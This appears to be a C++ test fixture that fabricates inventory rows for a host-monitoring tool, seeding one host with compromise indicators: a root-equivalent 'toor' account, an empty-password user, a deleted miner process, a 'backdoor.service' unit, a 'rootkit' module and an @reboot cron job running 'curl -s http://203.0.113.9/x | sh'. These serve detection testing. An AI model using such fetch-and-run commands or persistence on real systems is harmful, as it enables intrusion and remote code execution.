#include "tests/support/query_rows.hpp"

#include "tests/support/query_row_parts.hpp"

namespace tests {

namespace fleet_rows {

user account(const std::string& name, std::int64_t uid, const std::string& shell) {
  user u;
  u.name = name, u.uid = uid, u.gid = uid, u.gecos = name + " of the fleet";
  u.home = uid == 0 ? "/root" : "/home/" + name, u.shell = shell, u.origin = "local";
  u.password_state = "set", u.password_algorithm = "y";
  u.password_changed_at = days_ago(30), u.password_max_days = 90, u.password_min_days = 0;
  u.password_warning_days = 7, u.groups = texts{name}, u.sudo = false;
  return u;
}

void add_accounts(all_rows& to) {
  auto root = account("root", 0, "/bin/bash"), toor = account("toor", 0, "/bin/sh");
  auto ann = account("ann", 1000, "/bin/bash"), bob = account("bob", 1001, "/bin/zsh");
  auto daemon = account("daemon", 1, "/usr/sbin/nologin"), eve = account("eve", 1002, "/bin/sh");
  root.sudo = ann.sudo = true, root.groups = texts{"root"}, ann.groups = texts{"ann", "sudo"};
  root.ssh_keys = texts{"ssh-ed25519 SHA256:aaaa root@elsewhere"};
  ann.last_login_day = days_ago(2), bob.last_login_day = days_ago(120);
  bob.password_algorithm = "1", bob.password_max_days = 99999;
  daemon.password_state = "locked", eve.password_state = "empty";
  ann.last_login_place = "10.0.0.9";
  for (const auto& u : {root, toor, ann, bob, daemon, eve}) add(to, u);
  for (const auto& [name, gid, members] : {std::tuple{"root", 0, texts{}},
                                           {"sudo", 27, texts{"ann"}},
                                           {"docker", 998, texts{"bob"}}}) {
    group g;
    g.name = name, g.gid = gid, g.members = members;
    add(to, g);
  }
}

schemas::process running(std::int64_t pid, const std::string& exe, const texts& args,
                         std::int64_t uid) {
  schemas::process p;
  p.pid = pid, p.boot_id = "b", p.start_ticks = pid * 100, p.ppid = 1;
  p.name = exe.substr(exe.rfind('/') + 1), p.exe = exe, p.args = args;
  p.uid = p.gid = p.real_uid = p.real_gid = p.saved_uid = p.saved_gid = uid;
  p.exe_deleted = false, p.cgroup = "/system.slice", p.root = "/", p.start = days_ago(1);
  p.state = "S", p.threads = 2, p.cpu_user_ms = 1000, p.cpu_system_ms = 500;
  p.rss_bytes = 10'000'000, p.virtual_bytes = 50'000'000, p.nice = 0, p.cwd = "/";
  p.process_group = pid;
  return p;
}

port listening(const std::string& protocol, const std::string& address, std::int64_t number,
               std::int64_t pid, const std::string& process) {
  port p;
  p.protocol = protocol, p.local_address = address, p.local_port = number;
  p.remote_address = protocol.ends_with('6') ? "::" : "0.0.0.0", p.remote_port = 0;
  p.inode = number * 10, p.net_namespace = 1, p.state = "listening", p.pid = pid;
  p.process = process, p.uid = 0, p.descriptor = 3;
  return p;
}

void add_processes(all_rows& to) {
  auto sshd = running(700, "/usr/sbin/sshd", {"sshd:", "/usr/sbin/sshd", "-D"}, 0);
  auto nginx = running(800, "/usr/sbin/nginx", {"nginx:", "master"}, 0);
  auto gone = running(900, "/tmp/.x/miner", {"./miner", "--pool", "evil.example"}, 1002);
  auto web = running(950, "/opt/app/server", {"/opt/app/server"}, 1001);
  sshd.package = "openssh-server", nginx.package = "nginx", gone.exe_deleted = true;
  gone.ppid = 950;
  for (const auto& p : {sshd, nginx, gone, web}) add(to, p);
  auto ssh = listening("tcp", "0.0.0.0", 22, 700, "sshd");
  auto web6 = listening("tcp6", "::", 443, 800, "nginx");
  auto local = listening("tcp", "127.0.0.1", 8080, 950, "server");
  auto talk = listening("tcp", "10.0.0.5", 50000, 900, "miner");
  ssh.package = "openssh-server", web6.package = "nginx";
  talk.remote_address = "203.0.113.9", talk.remote_port = 4444, talk.state = "established";
  for (const auto& p : {ssh, web6, local, talk}) add(to, p);
}

service unit(const std::string& name, const std::string& enabled, const std::string& state) {
  service s;
  s.name = name, s.manager = "systemd", s.type = "service", s.description = "the unit " + name;
  s.enabled = enabled, s.load_state = "loaded", s.state = state;
  s.sub_state = state == "active" ? "running" : state == "failed" ? "failed" : "dead";
  s.path = "/lib/systemd/system/" + name, s.binary = "/usr/sbin/" + name, s.package = "pkg";
  return s;
}

void add_services(all_rows& to) {
  auto own = unit("backdoor.service", "enabled", "active");
  own.path = "/etc/systemd/system/backdoor.service", own.package.reset();
  own.binary = "/tmp/.x/backdoor";
  for (const auto& s :
       {unit("ssh.service", "enabled", "active"), unit("exim4.service", "enabled", "failed"),
        unit("cups.service", "enabled", "inactive"), own})
    add(to, s);
  scheduled_job clean, fetch, timer;
  clean.kind = fetch.kind = "cron", timer.kind = "timer";
  clean.source = "/etc/crontab", fetch.source = "/var/spool/cron/crontabs/eve";
  timer.source = "apt-daily.timer", timer.name = "apt-daily", timer.schedule = "*-*-* 6:00";
  clean.name = clean.command = "run-parts /etc/cron.daily", clean.schedule = "25 6 * * *";
  fetch.name = fetch.command = "curl -s http://203.0.113.9/x | sh", fetch.schedule = "@reboot";
  clean.user = "root", fetch.user = "eve", clean.copy = fetch.copy = timer.copy = 0;
  clean.enabled = fetch.enabled = timer.enabled = "yes";
  timer.unit = "apt-daily.service";
  for (const auto& j : {clean, fetch, timer}) add(to, j);
}

void add_kernel(all_rows& to) {
  for (const auto& [name, value] : {std::pair{"net.ipv4.ip_forward", "1"},
                                    {"kernel.randomize_va_space", "2"},
                                    {"net.ipv4.conf.all.accept_redirects", "0"}}) {
    sysctl s;
    s.name = name, s.value = value;
    add(to, s);
  }
  kernel_module ext4, odd;
  ext4.name = "ext4", odd.name = "rootkit", ext4.state = odd.state = "Live";
  ext4.size_bytes = 900'000, odd.size_bytes = 20'000, odd.taints = "OE";
  ext4.used_by = texts{}, odd.used_by = texts{};
  add(to, ext4), add(to, odd);
  const auto mounted = [&](const std::string& target, const std::string& options,
                           std::int64_t percent) {
    mount m;
    m.target = target, m.layer = 0, m.source = "/dev/vda1", m.type = "ext4", m.root = "/";
    m.options = options, m.device = "254:1", m.used_percent_band = percent;
    m.size_bytes = 1'000'000'000, m.available_bytes = 1'000'000'000 / 100 * (100 - percent);
    add(to, m);
  };
  mounted("/", "rw,relatime", 90);
  mounted("/tmp", "rw,nosuid,nodev", 10);
  mounted("/home", "rw,nosuid,nodev,noexec", 50);
  block_device disk;
  disk.name = "vda", disk.type = "disk", disk.size_bytes = 20'000'000'000, disk.serial = "S1";
  disk.model = "virtio", disk.removable = false, disk.read_only = false;
  add(to, disk);
}

void add_system(all_rows& to, const std::string& agent, bool is_rpm) {
  os system;
  system.host = "host", system.hostname = agent, system.distribution = is_rpm ? "rocky" : "debian";
  system.name = is_rpm ? "Rocky Linux" : "Debian GNU/Linux";
  system.version = is_rpm ? "9.4" : "12 (bookworm)", system.version_id = is_rpm ? "9.4" : "12";
  system.major = is_rpm ? "9" : "12", system.minor = is_rpm ? "4" : "5";
  system.kernel = is_rpm ? "5.14.0-427.el9" : "6.1.0-18-amd64", system.architecture = "x86_64";
  system.boot_time = days_ago(agent == "db-3" ? 400 : 5);
  add(to, system);
  hardware box;
  box.host = "host", box.cpu_model = "Fast CPU", box.cpu_cores = 4, box.cpu_sockets = 1;
  box.cpu_physical_cores = 2, box.memory_total_bytes = 8'000'000'000, box.system_vendor = "QEMU";
  box.product_name = "Standard PC", box.system_uuid = "uuid-" + agent, box.firmware_type = "uefi";
  box.firmware_vendor = "EDK II", box.firmware_version = "1", box.secure_boot = !is_rpm;
  box.swap_total_bytes = 0, box.memory_free_bytes = 1'000'000'000;
  add(to, box);
}

void add_of_rpm(all_rows& to) {
  package ssl = of_format("rpm", "openssl", "1:3.0.7-27.el9", "");
  ssl.path.reset(), ssl.architecture = "x86_64", ssl.epoch = 1, ssl.release = "27.el9";
  ssl.vendor = "Rocky", ssl.source = "openssl-3.0.7-27.el9.src.rpm", ssl.size_bytes = 2'000'000;
  ssl.installed_at = days_ago(100);
  add(to, ssl);
  repository base;
  base.format = "rpm", base.file = "/etc/yum.repos.d/rocky.repo", base.name = "baseos";
  base.title = "Rocky BaseOS", base.uri = "http://dl.rockylinux.org/", base.enabled = true;
  base.verified = true;
  add(to, base);
  user root = account("root", 0, "/bin/bash");
  add(to, root);
}

std::map<schemas::table_id, std::vector<schemas::encoded_row>> rows_of(const std::string& agent) {
  all_rows out;
  const bool is_rpm = agent == "rpm-2";
  add_system(out, agent, is_rpm);
  if (is_rpm) return add_of_rpm(out), out;
  const bool is_newest = agent == "mail-4" || agent == "old-5";
  add(out, deb("openssl", is_newest ? "3.0.15-1~deb12u1" : "3.0.11-1~deb12u1"));
  if (agent == "db-3") add(out, deb("telnetd", "0.17-44"));
  add(out, deb("vim", "2:9.0-1"));
  add(out, account("root", 0, "/bin/bash"));
  if (agent != "web-1") return out;
  out[table_id::users].clear();
  add(out, deb("telnetd", "0.17-44"));
  add(out, of_format("pypi", "requests", "2.31.0", "/usr/lib/python3/dist-packages/requests"));
  add(out, of_format("npm", "left-pad", "1.3.0", "/srv/node_modules/left-pad"));
  add_accounts(out), add_processes(out), add_services(out), add_kernel(out), add_network(out);
  add_software(out), add_places(out), add_checks(out);
  return out;
}

std::vector<schemas::encoded_row> changed() {
  return {encode_row(deb("openssl", "3.0.15-1~deb12u1", 0)),
          encode_row(deb("nginx", "1.22.1-9", 0))};
}

std::vector<encoded_row> added_accounts() {
  return {encode_row(account("mallory", 1003, "/bin/sh"))};
}

std::vector<std::string> keys_of_removed() {
  std::vector<std::string> out;
  for (const auto& p : {deb("telnetd", "0.17-44"), deb("openssl", "3.0.11-1~deb12u1")})
    out.push_back(key_of(*find_table(table_id::packages), encode_row(p).stable).value());
  return out;
}

}  // namespace fleet_rows

std::map<schemas::table_id, std::vector<schemas::encoded_row>> query_rows_of(
    const std::string& agent) {
  return fleet_rows::rows_of(agent);
}

std::vector<schemas::encoded_row> changed_packages() { return fleet_rows::changed(); }

std::vector<schemas::encoded_row> added_accounts() { return fleet_rows::added_accounts(); }

std::vector<std::string> keys_of_removed_packages() { return fleet_rows::keys_of_removed(); }

}  // namespace tests
